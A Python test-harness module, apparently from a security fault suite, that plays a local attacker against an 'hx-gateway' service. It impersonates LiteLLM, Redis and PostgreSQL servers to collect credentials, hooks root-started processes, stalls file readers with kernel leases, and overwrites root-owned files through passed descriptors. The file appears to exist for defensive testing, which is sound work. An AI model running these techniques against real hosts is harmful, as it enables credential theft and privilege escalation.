"""What an attacker runs inside the machine, as hx-gateway or as an ordinary user of it.

    python3 -m tests.faults.attacker LOOT MODE ARGUMENT...

Nothing but Python's library is used, and nothing of the package: an attacker looks at it from
outside. A mode goes on until it is killed.
"""

from __future__ import annotations

import ctypes
import fcntl
import os
import signal
import socket
import sys
import time
from collections.abc import Callable
from contextlib import suppress

from tests.faults import impostor, intruder
from tests.faults.loot import ESCAPE, Loot

_SET_NAME = 15
_LIBC = ctypes.CDLL(None)


def processes(loot: Loot, *hold: str) -> None:
    """Get into the processes of this user that root starts; `hold`: and never let them go on."""
    intruder.watch(loot, hold == ("hold",))


def http(loot: Loot, address: str, port: str) -> None:
    """Answer as LiteLLM or the wrapper, by the name of somebody else."""
    _LIBC.prctl(_SET_NAME, ESCAPE.encode(), 0, 0, 0)
    impostor.serve(loot, address, int(port), impostor.http(loot))


def redis(loot: Loot, address: str, port: str, *more: str) -> None:
    """Answer as Redis; `more` are lines that its INFO has."""
    impostor.serve(loot, address, int(port), impostor.redis(loot, "\n".join(more)))


def postgres(loot: Loot, address: str, port: str, way: str) -> None:
    """Answer as PostgreSQL that asks for the password in this way."""
    impostor.serve(loot, address, int(port), impostor.postgres(loot, way))


def leases(loot: Loot, *paths: str) -> None:
    """Have the kernel keep who opens files of ours waiting, each time for as long as it does."""
    signal.signal(signal.SIGIO, signal.SIG_IGN)
    descriptors = [os.open(path, os.O_RDWR) for path in paths]
    while True:
        for descriptor in descriptors:
            if fcntl.fcntl(descriptor, fcntl.F_GETLEASE) == fcntl.F_UNLCK:
                with suppress(OSError):
                    fcntl.fcntl(descriptor, fcntl.F_SETLEASE, fcntl.F_WRLCK)
        time.sleep(0.02)


def descriptors(loot: Loot, name: str, text: str) -> None:
    """Take descriptors from our other processes, and write into the files once they are root's."""
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as receiver:
        receiver.bind(f"\0{name}")
        receiver.settimeout(0.2)
        kept: set[int] = set()
        while True:
            with suppress(TimeoutError):
                kept |= set(socket.recv_fds(receiver, 1, 100)[1])
            for descriptor in list(kept):
                if os.fstat(descriptor).st_uid == 0:
                    os.pwrite(descriptor, text.encode(), 0)
                    loot.keep("file of root's", os.readlink(f"/proc/self/fd/{descriptor}"))
                    kept.remove(descriptor)


_MODES: dict[str, Callable[..., None]] = {
    "processes": processes,
    "http": http,
    "redis": redis,
    "postgres": postgres,
    "leases": leases,
    "descriptors": descriptors,
}


def enter_group(name: str) -> None:
    """Move into a control group of our own making below the one that is delegated to us."""
    with open("/proc/self/cgroup") as file:
        lines = [line.rstrip("\n").split(":", 2) for line in file]
    for number, controllers, path in lines:
        places = {"name=systemd": ["systemd"], "": ["unified", "."] if number == "0" else []}
        for place in places.get(controllers, []):
            folder = f"/sys/fs/cgroup/{place}{path}"
            if os.path.isdir(folder):
                os.mkdir(f"{folder}/{name}")
                with open(f"{folder}/{name}/cgroup.procs", "w") as procs:
                    procs.write(str(os.getpid()))
                break


if __name__ == "__main__":
    if "CONTROL_GROUP" in os.environ:
        enter_group(os.environ["CONTROL_GROUP"])
    _MODES[sys.argv[2]](Loot(sys.argv[1]), *sys.argv[3:])
